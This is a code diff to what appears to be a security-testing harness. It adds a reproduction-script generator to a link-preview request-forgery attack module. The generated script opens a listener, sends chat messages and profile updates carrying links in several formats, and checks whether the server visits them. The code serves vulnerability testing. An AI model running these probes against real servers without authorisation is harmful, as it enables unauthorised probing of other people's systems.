@@ -1,10 +1,11 @@
 import { setTimeout as sleep } from 'node:timers/promises'
 import { request } from '../../../target/wire/index.ts'
-import { defineAttack } from '../../attack.ts'
+import { type BaseContext, defineAttack } from '../../attack.ts'
 import { inconclusive, resisted, vulnerable } from '../../judge.ts'
 import { control, openWitness } from '../../kit/attempt.ts'
 import { attackerSession } from '../../kit/event-steps.ts'
 import { openListener } from '../../kit/listener.ts'
+import { someText, type Written } from '../../reproduction/steps.ts'
 
 export default defineAttack({
   id: 'crash/content-url-preview',
@@ -50,9 +51,31 @@ export default defineAttack({
       await context.wait(context.settleMs, 'for a visit of the server')
       const visits = listener.visits.filter((path) => path.startsWith(`/${mark}`))
       context.note('received', `${texts.length} messages with links; visits by the server: ${visits.length}`)
-      return visits.length > 0 ? vulnerable(context.evidence) : resisted(heard.observation, context.evidence)
+      if (visits.length === 0) return resisted(heard.observation, context.evidence)
+      context.recording.written(script(context))
+      return vulnerable(context.evidence)
     } finally {
       await listener.close()
     }
   },
 })
+
+function script({ target, attacker }: BaseContext): Written {
+  const { chat, namespace, listener, ownProfile } = target.profile
+  return ({ value, door }) => {
+    const emits = (event: string, args: unknown) =>
+      `emit(c0, ${value(namespace)}, ${value(event)}, ${value(args)}, true)`
+    const profile = ownProfile && target.fill(ownProfile.update.args, { text: someText })
+    return `const { createServer } = await import('node:http')
+const visits = []
+const listener = createServer((request, response) => response.end(String(visits.push(request.url))))
+await new Promise((resolve) => listener.listen(0, ${value(listener.bind)}, resolve))
+const link = (${value(listener.publicUrl)} ?? 'http://' + ${value(listener.bind)} + ':' + listener.address().port) + '/from-a-message'
+const c0 = await connect(${door({ token: attacker.token })}, true)
+for (const text of [link, \`look: \${link}?x=1\`, \`[a](\${link})\`, \`![a](\${link}.png)\`, \`<img src="\${link}.png">\`]) {
+  ${emits(chat.send.event, target.messageArgs(someText))}
+${ownProfile ? `  ${emits(ownProfile.update.event, profile)}\n` : ''}  await sleep(120)
+}
+await until(() => visits.length > 0, 'the server does not go to the link')`
+  }
+}
